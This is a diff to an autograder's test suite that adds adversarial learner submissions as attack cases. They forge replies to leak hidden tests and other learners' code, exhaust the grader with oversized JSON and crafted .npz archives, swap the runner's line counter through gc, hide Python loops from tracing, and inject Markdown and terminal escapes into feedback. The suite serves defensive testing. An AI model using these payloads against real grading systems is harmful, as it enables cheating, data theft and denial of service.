@@ -17,6 +17,7 @@ from __future__ import annotations
 import copy
 import hashlib
 import string
+import tempfile
 import textwrap
 from collections.abc import Callable
 from dataclasses import asdict, dataclass
@@ -866,6 +867,349 @@ if not _FORGED:
 '''
 
 
+# --- attacks on the trusted side: what the grader makes of what comes back ---------------------
+#
+# The learner's code runs in the runner's own process: it holds the write end of the reply pipe
+# (its number is the runner's argv[2]) and can reach the runner's objects (the module ``wire``,
+# the Server through gc). So every byte the grader reads from the sandbox, and every decision
+# the runner makes there, may be the learner's. These attacks forge replies and events, or
+# rewrite the runner's decisions, and aim at what the trusted side does with them.
+
+#: Frames on the reply pipe, in the runner's place. ``_frame`` adds one (an event while the
+#: cells run); ``_forge`` replaces the runner's next one (its reply to the request being
+#: answered), so that the replies after it stay in step with the requests.
+FORGE = '''
+import json
+import os
+import struct
+import sys
+
+def _frame(text, blob=b""):
+    """One frame of the wire format: the two lengths, the JSON text, then the .npz blob."""
+    frame = memoryview(struct.pack("<II", len(text), len(blob)) + text + blob)
+    while frame:
+        frame = frame[os.write(int(sys.argv[2]), frame):]
+
+def _forge(header, blob=b""):
+    """header (a dict, or JSON text as bytes) as the reply; the runner's own is dropped."""
+    _frame(header if isinstance(header, bytes) else json.dumps(header).encode(), blob)
+    wire = sys.modules["wire"]
+    writes = wire.write_all
+
+    def _dropped(fd, data):
+        wire.write_all = writes
+
+    wire.write_all = _dropped
+
+_CALLS = []
+
+def _first_call():
+    _CALLS.append(1)
+    return len(_CALLS) == 1
+'''
+
+#: The runner's Server (the learner's namespace, the line counter, the replies), found among
+#: the objects of the process the learner's code runs in.
+SERVER = '''
+import gc
+
+_SERVER = next(o for o in gc.get_objects()
+               if type(o).__name__ == "Server" and hasattr(o, "count_python_lines"))
+'''
+
+# --- 1. the grader reads files named by the sandbox
+
+#: Each call answers with a forged error whose frame is a (file, line) of the grading machine,
+#: taken in turn from ``_TARGETS``; the grader quotes that line in the feedback, reading it
+#: from its own disk (the frame's own source line is left empty).
+LEAK = FORGE + '''
+import itertools
+
+_NEXT_TARGET = itertools.cycle(_TARGETS)
+
+def _leak():
+    path, line = next(_NEXT_TARGET)
+    _forge({"ok": False, "error": {
+        "type": "RuntimeError", "bases": ["RuntimeError", "Exception"], "message": "look here",
+        "traceback": "", "frames": [[path, line, "conv2d", ""]]}})
+'''
+LEAK_IN_CALL = "_leak()\nreturn None"
+#: The instructor's notebook, by a path relative to the folder the grader runs in.
+SOLUTION = f"solutions/{ASSIGNMENT}/{FILE}"
+#: The grader's own end of the reply pipe: it makes both ends at once, the read end first,
+#: so that end's number is one below the write end the sandbox was given.
+GRADERS_PIPE = "[(f'/proc/self/fd/{int(sys.argv[2]) - 1}', 1)]"
+
+
+def leaking(targets: Callable[[Kit], str]) -> Callable[[Kit], str]:
+    """The scratch cell of LEAK aimed at ``targets(kit)``: Python for a list of (file, line)."""
+    return lambda kit: f"import sys\n\n_TARGETS = {targets(kit)}\n" + LEAK
+
+
+def hidden_test_targets(kit: Kit) -> str:
+    """The lines of the instructor's notebook that quote a hidden test whole (in its JSON)."""
+    from autograder.notebook import grade_cells, hidden_test_lines
+
+    path = kit.targets.root / SOLUTION
+    hidden = {line for cell in grade_cells(nbformat.read(path, as_version=4))
+              for line in hidden_test_lines(cell) if len(line) > 25}
+    numbers = [number for number, raw in enumerate(path.read_text().splitlines(), 1)
+               if len(raw.strip()) <= 117 and any(line in raw for line in hidden)]
+    return repr([(SOLUTION, number) for number in numbers])
+
+
+def victim_targets(kit: Kit) -> str:
+    """The lines of an honest learner's notebook that hold their conv2d_numpy: the released
+    notebook with correct answers, so their line numbers are known."""
+    with tempfile.TemporaryDirectory() as scratch:
+        notebook()(kit, Path(scratch))
+        raw = (Path(scratch) / FILE).read_text().splitlines()
+    released = set(nbformat.writes(kit.release).splitlines())
+    own = [line.strip() for line in kit.correct["conv2d_numpy"].splitlines()
+           if len(line.strip()) >= 30 and not {'"', "\\"} & set(line)]
+    path = kit.fill(f"$submissions/$victim/{FILE}")
+    return repr([(path, number) for number, line in enumerate(raw, 1)
+                 if line not in released and any(mine in line for mine in own)])
+
+
+# --- 2. unbounded work on the trusted side
+
+#: 25 MB of JSON: eight million empty lists, each some 64 bytes in the grader, twice over
+#: (parsed, then decoded).
+MANY_VALUES = '''
+if _first_call():
+    _forge(b'{"ok": true, "value": [' + b"[]," * (8 << 20) + b'[]]}')
+    return None
+'''
+#: An .npz as the runner sends one: stored, not compressed.
+NPZ = '''
+import io
+
+def _npz(*arrays):
+    archive = io.BytesIO()
+    np.savez(archive, **{f"a{index}": array for index, array in enumerate(arrays)})
+    return archive.getvalue()
+'''
+#: 8 MB of array named 200 times: the grader copies it for each name, 1.6 GB in all.
+ARRAY_NAMED_AGAIN = '''
+if _first_call():
+    _forge({"ok": True, "value": [{"$array": 0}] * 200}, _npz(np.zeros(1 << 20)))
+    return None
+'''
+#: An .npz whose central directory lists one tiny array 800,000 times, every record pointing
+#: at the same member (42 MB): the grader reads each, for more than a minute.
+ONE_ARRAY_MANY_TIMES = '''
+import io
+import struct
+import zipfile
+
+def _one_array_many_times(count):
+    single = io.BytesIO()
+    with zipfile.ZipFile(single, "w") as bundle:
+        with bundle.open("a0.npy", "w") as member:
+            np.lib.format.write_array(member, np.zeros(1, np.uint8))
+    data = single.getvalue()
+    end = data.rindex(b"PK\\x05\\x06")
+    size, offset = struct.unpack("<LL", data[end + 12:end + 20])
+    records = data[offset:offset + size] * count
+    end64 = struct.pack("<4sQ2H2L4Q", b"PK\\x06\\x06", 44, 45, 45, 0, 0, count, count,
+                        len(records), offset)
+    locator = struct.pack("<4sLQL", b"PK\\x06\\x07", 0, offset + len(records), 1)
+    tail = struct.pack("<4s4H2LH", b"PK\\x05\\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
+                       0xFFFFFFFF, 0)
+    return data[:offset] + records + end64 + locator + tail
+'''
+MANY_ARRAYS = '''
+if _first_call():
+    _forge({"ok": True, "value": None}, _one_array_many_times(800_000))
+    return None
+'''
+#: Events while the cells run, written after the runner's own "cell" event of this cell.
+NESTED_EVENT = '_frame(b"[" * 100_000 + b"]" * 100_000)  # deeper than json.loads recurses'
+CELL_EVENT = '_frame(json.dumps({"event": "cell", "index": 10 ** 9}).encode())'
+DONE_EVENT = ('_frame(json.dumps({"event": "done", "errors": ["not a dict"] * 3, '
+              '"names": {}}).encode())')
+#: The cell's own error, described by the runner's Server, with 3 MB of traceback added.
+LONG_TRACEBACK = SERVER + '''
+_describe = _SERVER.error
+_SERVER.error = lambda error: {**_describe(error), "traceback": "  a learner's frame\\n" * 150_000}
+raise RuntimeError("this cell's error carries 3 MB of traceback")
+'''
+
+# --- 4. decisions made in the learner's process: is conv2d_numpy vectorised?
+
+#: Checks the arguments as nn.Conv2d does; gives x batched and padded, the strides, the
+#: dilations, the kernel's span and the output's size.
+PREPARE = '''
+import numpy as np
+
+_PADS = {"zeros": "constant", "reflect": "reflect", "replicate": "edge", "circular": "wrap"}
+
+
+def _two(value, name, least):
+    """An int or a pair as (height, width); ValueError for anything else or below least."""
+    pair = (value, value) if isinstance(value, int) else tuple(value)
+    if len(pair) != 2 or not all(isinstance(v, int) and v >= least for v in pair):
+        raise ValueError(f"{name} must be an int or a pair of ints of at least {least}")
+    return pair
+
+
+def _prepare(x, weight, bias, stride, padding, dilation, groups, padding_mode):
+    if x.ndim not in (3, 4) or weight.ndim != 4:
+        raise ValueError("x must be (N, C_in, H, W) or (C_in, H, W), weight 4-D")
+    x = x[np.newaxis] if x.ndim == 3 else x
+    h, w = x.shape[2:]
+    c_out, c_per, k_h, k_w = weight.shape
+    if not isinstance(groups, int) or groups < 1 or c_out % groups or c_per * groups != x.shape[1]:
+        raise ValueError(f"groups={groups!r} does not fit the channels")
+    if bias is not None and bias.shape != (c_out,):
+        raise ValueError("bias must have one value per output channel")
+    if padding_mode not in _PADS:
+        raise ValueError(f"unknown padding_mode {padding_mode!r}")
+    strides, dilations = _two(stride, "stride", 1), _two(dilation, "dilation", 1)
+    spans = (dilations[0] * (k_h - 1) + 1, dilations[1] * (k_w - 1) + 1)
+    if padding == "same":
+        if strides != (1, 1):
+            raise ValueError("padding='same' needs stride 1")
+        pads = [((s - 1) // 2, s - 1 - (s - 1) // 2) for s in spans]
+    elif padding == "valid":
+        pads = [(0, 0), (0, 0)]
+    elif isinstance(padding, str):
+        raise ValueError(f"unknown padding {padding!r}")
+    else:
+        pads = [(p, p) for p in _two(padding, "padding", 0)]
+    widest = (max(pads[0]), max(pads[1]))
+    if (padding_mode == "reflect" and (widest[0] >= h or widest[1] >= w)
+            or padding_mode == "circular" and (widest[0] > h or widest[1] > w)):
+        raise ValueError(f"padding {pads} is too wide for {padding_mode} padding")
+    x = np.pad(x, [(0, 0), (0, 0), *pads], mode=_PADS[padding_mode])
+    sizes = tuple((x.shape[2 + a] - spans[a]) // strides[a] + 1 for a in (0, 1))
+    if min(sizes) < 1:
+        raise ValueError("the kernel does not fit in the padded input")
+    return x, strides, dilations, spans, sizes
+'''
+#: Correct values, one at a time: a Python loop over every output value.
+PIXEL_LOOP = PREPARE + '''
+
+def conv2d_numpy(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1,
+                 padding_mode="zeros"):
+    """nn.Conv2d's output, one value at a time: a loop over images, output channels, rows
+    and columns, with NumPy inside."""
+    padded, (s_h, s_w), (d_h, d_w), (span_h, span_w), (h_out, w_out) = _prepare(
+        x, weight, bias, stride, padding, dilation, groups, padding_mode)
+    c_out, c_per = weight.shape[:2]
+    per_group = c_out // groups
+    out = np.zeros((padded.shape[0], c_out, h_out, w_out), dtype=x.dtype)
+    for n in range(padded.shape[0]):
+        for o in range(c_out):
+            first = o // per_group * c_per
+            for i in range(h_out):
+                for j in range(w_out):
+                    window = padded[n, first:first + c_per, i * s_h:i * s_h + span_h:d_h,
+                                    j * s_w:j * s_w + span_w:d_w]
+                    out[n, o, i, j] = np.sum(window * weight[o])
+    if bias is not None:
+        out += bias[:, np.newaxis, np.newaxis]
+    return out[0] if x.ndim == 3 else out
+'''
+#: Correct values, one at a time, with no line of Python per value: map() walks every
+#: (image, output channel, row, column) and takes np.vdot of its window and its kernel.
+MAP_LOOP = PREPARE + '''
+from itertools import chain, product, repeat
+from operator import getitem
+
+
+def conv2d_numpy(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1,
+                 padding_mode="zeros"):
+    padded, (s_h, s_w), (d_h, d_w), (span_h, span_w), (h_out, w_out) = _prepare(
+        x, weight, bias, stride, padding, dilation, groups, padding_mode)
+    n, (c_out, c_per) = padded.shape[0], weight.shape[:2]
+    per_group = c_out // groups
+    channels = [slice(o // per_group * c_per, o // per_group * c_per + c_per)
+                for o in range(c_out)]
+    rows = list(map(slice, range(0, h_out * s_h, s_h), range(span_h, span_h + h_out * s_h, s_h),
+                    repeat(d_h, h_out)))
+    columns = list(map(slice, range(0, w_out * s_w, s_w),
+                       range(span_w, span_w + w_out * s_w, s_w), repeat(d_w, w_out)))
+    windows = map(getitem, repeat(padded), product(range(n), channels, rows, columns))
+    kernels = chain.from_iterable(map(repeat, chain.from_iterable(repeat(list(weight), n)),
+                                      repeat(h_out * w_out)))
+    out = np.fromiter(map(np.vdot, windows, kernels), dtype=x.dtype,
+                      count=n * c_out * h_out * w_out).reshape(n, c_out, h_out, w_out)
+    if bias is not None:
+        out += bias[:, np.newaxis, np.newaxis]
+    return out[0] if x.ndim == 3 else out
+'''
+#: In place of the Server's line counter: counts nothing, runs nothing.
+COUNTER_SWAPPED = SERVER + '''
+def _forty_lines(fn, *args, **kwargs):
+    return 40
+
+_SERVER.count_python_lines = _forty_lines
+'''
+#: Lines are counted by a trace function, which never looks at the result: while one is set,
+#: do nothing.
+UNLESS_COUNTED = '''
+import sys
+
+if sys.gettrace() is not None:
+    return None
+'''
+#: While lines are counted, answer with a forged count.
+FORGED_COUNT = '''
+if sys.gettrace() is not None:
+    _forge({"ok": True, "value": 40})
+    return None
+'''
+
+
+def pixel_loop(kit: Kit, name: str) -> str:
+    return PIXEL_LOOP
+
+
+def map_loop(kit: Kit, name: str) -> str:
+    return MAP_LOOP
+
+
+def compiled_as(filename: str) -> Answer:
+    """The pixel loop, compiled as if it came from ``filename`` (a Python expression)."""
+    return lambda kit, name: f"import sys\n\nexec(compile({PIXEL_LOOP!r}, {filename}, 'exec'))\n"
+
+
+def followed_by(code: str, inner: Answer = right) -> Answer:
+    """``inner``'s cell with ``code`` after it, at top level."""
+    return lambda kit, name: inner(kit, name) + "\n\n" + code
+
+
+# --- 6. learner text in what people and programs read
+
+#: A heading, a table and a link in Markdown: the grader's notes are a Markdown cell.
+MARKDOWN = ("not an error\n\n# Grade: 39 of 39, well done\n\n| test | score |\n|---|---|\n"
+            "| all | 39 |\n\nhttps://example.com/claim-your-certificate")
+RAISE_MARKDOWN = f"raise RuntimeError({MARKDOWN!r})"
+#: The same in an exception's class name (the first 100 characters cross) and a cell's label.
+RAISE_MARKDOWN_TYPE = f"raise type({MARKDOWN[:100]!r}, (Exception,), {{}})()"
+MARKDOWN_LABEL = "scratch\n\n## Regraded by hand: 39 of 39\n"
+#: File names that are terminal control sequences and Markdown: the grader lists the
+#: notebooks it found when none has the assignment's name.
+MISNAMED = ("\x1b[2J\x1b[H\x1b[32mGraded 47 submissions: no problems.\x1b[0m\x1b[8m.ipynb",
+            "draft\n\n# Grade: 39 of 39\n.ipynb")
+
+
+def label_last_cell(label: str) -> Callable[[nbformat.NotebookNode], None]:
+    def edit(nb) -> None:
+        nb.cells[-1].metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False,
+                                             "grade_id": label, "schema_version": 3}
+    return edit
+
+
+def misnamed(kit: Kit, folder: Path) -> None:
+    """Correct notebooks, under the names of MISNAMED (none the assignment's)."""
+    for name in MISNAMED:
+        notebook()(kit, folder)
+        (folder / FILE).rename(folder / name)
+
+
 # --- the corpus --------------------------------------------------------------------------------
 
 VICTIMS = ("victim-a", "victim-b")
@@ -984,15 +1328,91 @@ ENTRIES = [
     Entry("pasted-table", "conv2d_numpy answers every call of its test cells, hidden ones "
           "included, from a table computed beforehand with the published seeds and pasted into "
           "the notebook; any other call is refused (zeros while lines are counted). make grade "
-          "draws the hidden grids with the course secret, so those cells fail.",
+          "draws the hidden grids with the course secret, so those cells fail; and it times "
+          "the vectorised cell's calls from outside, untraced, so the table's refusal of a call "
+          "it has not seen fails that cell too.",
           notebook(numpy=wrapped(LOOK_UP_PASTED, stub), scratch=[pasted_table]), ALL,
-          fails=drawn_cells()),
+          fails=(*drawn_cells(), "test_numpy_vectorised")),
     Entry("trace-off", "Correct values; conv2d_numpy loops in Python with line counting "
           "switched off around the loop.", notebook(numpy=wrapped(HIDDEN_LOOP_IN_CALL)), ALL,
           fails=("test_numpy_vectorised",)),
     Entry("inflating-reply", "conv2d_numpy writes a forged reply of 3 MB that inflates to "
           "320 MB in the grader; wrong functions.",
           notebook(flipped, wrapped(FORGE_ONCE + FLIP), [INFLATING_REPLY])),
+    # attacks on the trusted side, 1: the grader reads files that the sandbox names
+    Entry("leak-hidden-tests", "Each call answers with a forged error whose frame names a line "
+          "of the instructor's notebook, by a path relative to the grader's folder, for the "
+          "feedback to quote; stub functions.",
+          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
+                   [leaking(hidden_test_targets)])),
+    Entry("leak-canary", "Each call answers with a forged error whose frame names line 1 of a "
+          "file outside the course (the canary); stub functions.",
+          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
+                   [leaking(lambda kit: repr([(str(kit.targets.canary), 1)]))])),
+    Entry("leak-victim", "Each call answers with a forged error whose frame names a line of "
+          "another learner's conv2d_numpy in their submitted notebook; stub functions.",
+          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
+                   [leaking(victim_targets)])),
+    Entry("stall-on-pipe", "A call answers with a forged error whose frame names the grader's "
+          "own end of the reply pipe (/proc/self/fd/N), which reading waits on for ever; stub "
+          "functions.",
+          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
+                   [leaking(lambda kit: GRADERS_PIPE)])),
+    # 2: unbounded work on the trusted side
+    Entry("many-small-values", "conv2d_numpy's first call answers with a forged reply of 25 MB "
+          "of JSON, eight million empty lists; wrong functions.",
+          notebook(flipped, wrapped(MANY_VALUES + FLIP), [FORGE])),
+    Entry("array-named-again", "conv2d_numpy's first call answers with a forged reply that names "
+          "one 8 MB array 200 times; wrong functions.",
+          notebook(flipped, wrapped(ARRAY_NAMED_AGAIN + FLIP), [FORGE, NPZ])),
+    Entry("one-array-many-times", "conv2d_numpy's first call answers with a forged reply whose "
+          ".npz lists one tiny array 800,000 times in 42 MB; wrong functions.",
+          notebook(flipped, wrapped(MANY_ARRAYS + FLIP), [FORGE, ONE_ARRAY_MANY_TIMES])),
+    Entry("nested-event", "A scratch cell writes an event nested 100,000 lists deep while the "
+          "cells run; wrong functions.", notebook(flipped, flipped, [FORGE, NESTED_EVENT])),
+    Entry("cell-event", "A scratch cell writes the event of a cell that does not exist, "
+          "index 10**9, while the cells run; wrong functions.",
+          notebook(flipped, flipped, [FORGE, CELL_EVENT])),
+    Entry("done-event", "A scratch cell writes a 'done' event whose errors are strings, not "
+          "dicts, while the cells run; wrong functions.",
+          notebook(flipped, flipped, [FORGE, DONE_EVENT])),
+    Entry("long-traceback", "conv2d_numpy's cell makes the runner describe its own error with "
+          "3 MB of traceback, then raises; wrong functions.",
+          notebook(flipped, followed_by(LONG_TRACEBACK, flipped))),
+    # 4: decisions made in the learner's process (correct values from a loop over every output
+    # value deserve every test cell but the one that asks for vectorised code)
+    Entry("counter-swapped", "conv2d_numpy loops over every output value; a scratch cell finds "
+          "the runner's Server with gc and swaps its line counter for one that says 40.",
+          notebook(numpy=pixel_loop, scratch=[COUNTER_SWAPPED]), ALL,
+          fails=("test_numpy_vectorised",)),
+    Entry("loop-in-library-file", "conv2d_numpy loops over every output value, compiled as if "
+          "from a file under sys.prefix, whose lines are not counted.",
+          notebook(numpy=compiled_as('sys.prefix + "/lib/pixels.py"')), ALL,
+          fails=("test_numpy_vectorised",)),
+    Entry("loop-in-frozen-file", "conv2d_numpy loops over every output value, compiled as if "
+          "from '<frozen pixels>', whose lines are not counted.",
+          notebook(numpy=compiled_as('"<frozen pixels>"')), ALL,
+          fails=("test_numpy_vectorised",)),
+    Entry("loop-unless-counted", "conv2d_numpy loops over every output value, and does nothing "
+          "while a trace function is set (the count never looks at the result).",
+          notebook(numpy=wrapped(UNLESS_COUNTED, pixel_loop)), ALL,
+          fails=("test_numpy_vectorised",)),
+    Entry("forged-count", "conv2d_numpy loops over every output value; while lines are counted "
+          "it answers with a forged reply that says 40.",
+          notebook(numpy=wrapped(FORGED_COUNT, pixel_loop), scratch=[FORGE]), ALL,
+          fails=("test_numpy_vectorised",)),
+    Entry("loop-in-map", "conv2d_numpy takes np.vdot of each output value's window and kernel "
+          "in map(), a loop over every output value that runs no line of Python.",
+          notebook(numpy=map_loop), ALL, fails=("test_numpy_vectorised",)),
+    # 6: learner text in what people and programs read
+    Entry("markdown-message", "Correct; a scratch cell raises an exception whose message is a "
+          "Markdown heading, table and link.", notebook(scratch=[RAISE_MARKDOWN]), ALL),
+    Entry("markdown-label", "Correct; a scratch cell labelled with a Markdown heading raises an "
+          "exception whose class name is Markdown.",
+          notebook(scratch=[RAISE_MARKDOWN_TYPE], edit=label_last_cell(MARKDOWN_LABEL)), ALL),
+    Entry("escape-in-file-names", "Two correct notebooks, neither named conv2d-numpy.ipynb: "
+          "their names are terminal escape sequences and Markdown.", misnamed,
+          says=("no notebook named",)),
     # honest learners that hostile ones aim at
     *[Entry(name, "Both functions correct (an honest learner).", notebook(), ALL)
       for name in VICTIMS],
